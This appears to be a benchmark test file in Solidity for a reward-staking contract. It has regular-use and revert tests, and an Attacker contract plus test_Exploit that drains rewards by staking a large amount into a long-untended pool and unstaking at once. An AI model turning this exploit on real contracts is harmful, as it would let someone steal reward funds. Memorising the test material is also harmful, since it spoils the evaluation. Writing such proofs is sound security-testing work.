// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.7.6;

import "./Heathland.sol";

// assay-canary-5c37d89f-0f5b-4a2e-93c9-16d2a51a7c8d

interface Vm {
    function prank(address sender) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract CoverToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(allowance[from][msg.sender] >= amount && balanceOf[from] >= amount, "balance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant HEATHER = address(0x4EA);
    address internal constant LING = address(0x119);
    uint256 internal constant START = 1_608_000_000;
    uint256 internal constant RATE = 0.01 ether;

    Heathland internal heath;
    CoverToken internal cover;
    CoverToken internal other;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        heath = new Heathland(RATE);
        cover = new CoverToken();
        other = new CoverToken();
        heath.putUp(address(cover), 60);
        heath.putUp(address(other), 40);
        give(HEATHER, 15 ether);
        vm.prank(HEATHER);
        heath.stake(address(cover), 10 ether);
        thief = new Attacker(heath, cover);
        cover.mint(address(thief), 1_000_000 ether);
        // nobody has come to this hive for nearly a week
        vm.warp(START + 6 days);
    }

    function give(address to, uint256 amount) private {
        cover.mint(to, amount);
        vm.prank(to);
        cover.approve(address(heath), amount);
    }

    function test_Regular() public {
        uint256 made = 6 days * RATE * 60 / 100;
        require(heath.ripe(address(cover), HEATHER) == made, "ripe");
        vm.prank(HEATHER);
        heath.harvest(address(cover));
        Wax wax = heath.wax();
        require(wax.balanceOf(HEATHER) == made && wax.totalSupply() == made, "harvested");

        // a second keeper, and the first adds to its stake
        give(LING, 20 ether);
        vm.prank(LING);
        heath.stake(address(cover), 15 ether);
        vm.prank(HEATHER);
        heath.stake(address(cover), 5 ether);
        require(heath.ripe(address(cover), LING) == 0 && heath.ripe(address(cover), HEATHER) == 0, "fresh");
        vm.warp(START + 7 days);
        made = 1 days * RATE * 60 / 100;
        require(heath.ripe(address(cover), LING) == made / 2, "halves");
        vm.prank(LING);
        heath.unstake(address(cover), 15 ether);
        require(cover.balanceOf(LING) == 20 ether && wax.balanceOf(LING) == made / 2, "left");
        vm.prank(LING);
        (bool ok, ) = address(heath).call(abi.encodeWithSelector(heath.unstake.selector, address(cover), 1));
        require(!ok, "nothing left");
        (ok, ) = address(heath).call(abi.encodeWithSelector(heath.stake.selector, address(this), 1));
        require(!ok, "no hive");
        (ok, ) = address(wax).call(abi.encodeWithSelector(wax.mint.selector, address(this), 1));
        require(!ok, "mint");
        require(withinSchedule(), "schedule");

        vm.warp(block.timestamp + 1 days);
        heath.tend(address(cover));
        vm.prank(LING);
        wax.transfer(HEATHER, 1);
        require(wax.balanceOf(LING) + 1 == made / 2, "wax");
    }

    /// No more wax than the heath has had the time to make.
    function withinSchedule() public view returns (bool) {
        return heath.wax().totalSupply() <= (block.timestamp - heath.startedAt()) * heath.waxPerSecond();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Hives are the beekeeper's, put up once, with a weight, thirty-two at most.
    function test_RefusesHives() public {
        refuses(LING, "Heath: beekeeper");
        heath.putUp(LING, 1);
        vm.expectRevert("Heath: hive");
        heath.putUp(address(cover), 1);
        vm.expectRevert("Heath: hive");
        heath.putUp(address(0x1000), 0);
        for (uint256 i = 0; i < 30; i++) heath.putUp(address(0x1000 + i), 1);
        vm.expectRevert("Heath: hive");
        heath.putUp(address(0x2000), 1);
        vm.expectRevert("Heath: no hive");
        heath.tend(address(this));
        Wax wax = heath.wax();
        refuses(LING, "Wax: balance");
        wax.transfer(HEATHER, 1);
    }

    /// Stakes of something, that a hive can hold, in tokens that move.
    function test_RefusesStakes() public {
        refuses(LING, "Heath: amount");
        heath.stake(address(cover), 0);
        refuses(LING, "Heath: amount");
        heath.stake(address(cover), 2**96);
        give(LING, 2**96 - 1);
        refuses(LING, "Heath: full");
        heath.stake(address(cover), 2**96 - 1);
        cover.sleep(true);
        refuses(LING, "Heath: transfer");
        heath.stake(address(cover), 1);
        refuses(HEATHER, "Heath: transfer");
        heath.unstake(address(cover), 1);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        require(withinSchedule(), "before");
        exploit();
        require(!withinSchedule(), "still within the schedule");
        require(heath.wax().balanceOf(address(thief)) > 100_000_000 ether, "gain");
        require(cover.balanceOf(address(thief)) == 1_000_000 ether, "stake");
    }

    function target() public view returns (address) {
        return address(heath);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Stakes a lot in a hive that was not tended for long, harvests the past, and leaves.
contract Attacker {
    Heathland internal heath;
    CoverToken internal cover;

    constructor(Heathland heath_, CoverToken cover_) {
        heath = heath_;
        cover = cover_;
    }

    function run() external {
        uint256 amount = cover.balanceOf(address(this));
        cover.approve(address(heath), amount);
        heath.stake(address(cover), amount);
        heath.unstake(address(cover), amount);
    }
}
